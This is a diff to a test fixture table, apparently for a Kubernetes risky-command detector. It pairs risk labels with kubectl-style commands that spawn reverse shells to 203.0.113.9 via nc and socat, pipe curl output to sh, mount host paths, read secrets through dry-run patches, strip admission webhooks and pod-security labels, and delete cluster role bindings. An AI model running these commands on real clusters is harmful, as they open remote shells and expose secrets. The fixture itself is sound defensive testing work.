@@ -107,23 +107,36 @@ sensitive-host-path | admin run d -n lab --image=a --overrides {"spec":{"volumes
 privileged-pod | admin run e -n lab --image=a --overrides {"spec":{"securityContext":{"windowsOptions":{"hostProcess":true}},"hostNetwork":true}}
 workload-reverse-shell | admin create cronjob f -n lab --image=a --schedule=0_0_*_*_* -- sh -c bash_-i_>&_/dev/tcp/203.0.113.9/443_0>&1
 workload-reverse-shell | admin create job g -n lab --image=a -- nc 203.0.113.9 4444 -e /bin/sh
+workload-reverse-shell | admin run i -n lab --image=a --overrides {"spec":{"containers":[{"name":"i","image":"a","command":["nc"],"args":["203.0.113.9","4444","-e","/bin/sh"]}]}}
+workload-reverse-shell | admin create job j -n lab --image=a -- sh -c nc_-c_bash_203.0.113.9_443
+workload-reverse-shell | admin create job k -n lab --image=a -- socat tcp:203.0.113.9:443 SYSTEM:/bin/bash
+sensitive-host-path | admin run l -n lab --image=a --overrides {"spec":{"volumes":[{"name":"v","hostPath":{"path":"/usr/local"}}]}}
 workload-runs-download | admin create job h -n lab --image=a -- sh -c curl_-s_http://203.0.113.9/x|sh
 secrets-read-by-writing | admin delete --raw /api/v1/namespaces/shop/secrets?dryRun=All
 secrets-read-by-writing | admin patch secret db -n shop --type=merge -p {}
 secrets-read-by-writing | admin patch secret db -n shop --type=json -p []
+secrets-read-by-writing | admin patch secret db -n shop --type=merge -p {"metadata":{}}
+secrets-read-by-writing | admin patch secret db -n shop --type=merge --dry-run=server -p {"metadata":{"labels":{"a":"b"}}}
+secrets-read-by-writing | admin delete --raw /api/v1/namespaces/shop/secrets/db?dryRun=All&propagationPolicy=Foreground
 admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"remove","path":"/webhooks/0"}]
 admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"remove","path":"/webhooks/-1"}]
 admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=strategic -p {"webhooks":[{"$patch":"delete","name":"two.guard.example"}]}
 admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"add","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}]
+admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=json -p [{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["nonesuch"]}]
+admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=strategic -p {"webhooks":[{"$patch":"replace"}]}
 admission-guard-weakened | admin patch validatingwebhookconfiguration guard --type=merge -p {"webhooks":null}
 pod-security-lowered | admin patch namespace shop --type=json -p [{"op":"replace","path":"/metadata/labels","value":{"team":"a"}}]
 pod-security-lowered | admin patch namespace shop --type=merge -p {"metadata":{"labels":null}}
 pod-security-lowered | admin patch namespace shop --type=strategic -p {"metadata":{"labels":{"$patch":"replace","team":"b"}}}
+pod-security-lowered | admin patch namespace shop --type=json -p [{"op":"replace","path":"/metadata","value":{"name":"shop"}}]
+pod-security-lowered | admin patch namespace shop --type=strategic -p {"metadata":{"$patch":"replace","name":"shop"}}
 escalation-role | admin create clusterrole a --verb=get --resource=*/proxy
-role-aggregated | admin create clusterrole c --aggregation-rule=a=b
+role-gathers-rules | admin create clusterrole c --aggregation-rule=a=b
+node-proxy-command | admin get --raw /api/v1/nodes/nowhere/proxy/pods/%2e%2e/exec/shop/web/web?command=id
 all-powerful-role | admin patch clusterrole nearly --type=json -p [{"op":"replace","path":"/rules/0/verbs/0","value":"*"}]
 endpoints-changed-by-hand | admin patch endpoints web -n shop --type=json -p [{"op":"add","path":"/subsets/0/addresses/-","value":{"ip":"203.0.113.9"}}]
 cluster-plumbing-changed | admin delete --raw /api/v1/namespaces/kube-system/configmaps
+admin-subjects-changed | admin delete --raw /apis/rbac.authorization.k8s.io/v1/clusterrolebindings?labelSelector=kubernetes.io/bootstrapping=rbac-defaults
 admin-subjects-changed | admin delete --raw /apis/rbac.authorization.k8s.io/v1/clusterrolebindings
 "#;
 
